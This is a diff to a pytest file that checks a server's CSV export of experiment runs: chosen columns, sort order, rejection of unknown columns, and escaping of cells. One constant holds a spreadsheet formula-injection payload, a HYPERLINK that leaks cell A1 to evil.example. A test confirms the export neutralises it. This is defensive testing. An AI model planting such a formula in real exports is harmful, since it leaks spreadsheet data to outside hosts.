@@ -5,11 +5,13 @@ from __future__ import annotations
 
 import csv
 import io
+from urllib.parse import quote
 
 import pytest
 
-from server.exports import spreadsheet_safe
+from server.exports import TABLE_COLUMNS, spreadsheet_safe
 from tests.server.helpers import ApiClient, create_external
+from tests.server.run_table_data import RunsTable
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -76,3 +78,56 @@ def test_metrics_csv_neutralises_keys_and_keeps_negative_values(client: ApiClien
     assert header == "step,epoch,'=1+1,train/loss"
     (row,) = _rows(response.text)
     assert row["'=1+1"] == "-1.5" and row["train/loss"] == "-0.25"
+
+
+def test_runs_table_csv_holds_exactly_the_chosen_columns(table: RunsTable) -> None:
+    """The page's export (`columns=`) holds the table's own columns, the chosen ones in their
+    order (config, metric and tag columns) and the tags, on PostgreSQL and SQLite."""
+    client, ids = table
+    columns = "metrics.val/iou.best,config.learning_rate,tag.lr"
+    response = client.get(f"/api/v1/runs.csv?columns={quote(columns)}&sort=name")
+    assert response.status_code == 200, response.text
+    header = response.text.splitlines()[0].split(",")
+    assert header == [
+        *TABLE_COLUMNS,
+        "metrics.val/iou.best",
+        "config.learning_rate",
+        "tag.lr",
+        "tags",
+    ]
+    rows = {row["name"]: row for row in _rows(response.text)}
+    assert [row["name"] for row in _rows(response.text)] == sorted(rows)
+    alpha = rows["alpha"]
+    assert alpha["id"] == str(ids["alpha"])
+    assert alpha["metrics.val/iou.best"] == "0.8"
+    assert alpha["config.learning_rate"] == "0.001"
+    assert alpha["tag.lr"] == "1e-3"
+    assert alpha["tags"] == "baseline;lr=1e-3"
+    assert rows["script"]["config.learning_rate"] == ""
+    assert not any(column.startswith(("config.model", "params.", "metric.")) for column in header)
+
+
+def test_runs_table_csv_without_chosen_columns_and_sorted_by_one(table: RunsTable) -> None:
+    client, _ = table
+    response = client.get(f"/api/v1/runs.csv?columns=&sort={quote('-metrics.val/iou.best')}")
+    assert response.status_code == 200, response.text
+    assert response.text.splitlines()[0] == ",".join((*TABLE_COLUMNS, "tags"))
+    names = [row["name"] for row in _rows(response.text)]
+    assert names[:3] == ["o'brien", "delta", "alpha"]
+
+
+def test_runs_table_csv_cells_are_spreadsheet_safe(client: ApiClient) -> None:
+    create_external(client, name=ATTACK, tags=["note=@SUM(A1)"], params={"x": "=1+1"})
+    response = client.get(f"/api/v1/runs.csv?columns={quote('params.x,tag.note')}")
+    assert response.status_code == 200, response.text
+    (row,) = _rows(response.text)
+    assert row["name"] == f"'{ATTACK}"
+    assert row["params.x"] == "'=1+1"
+    assert row["tag.note"] == "'@SUM(A1)"
+
+
+def test_runs_table_csv_refuses_unknown_columns(client: ApiClient) -> None:
+    create_external(client)
+    response = client.get("/api/v1/runs.csv?columns=config.nope")
+    assert response.status_code == 422, response.text
+    assert response.json()["error"]["details"][0]["field"] == "columns"
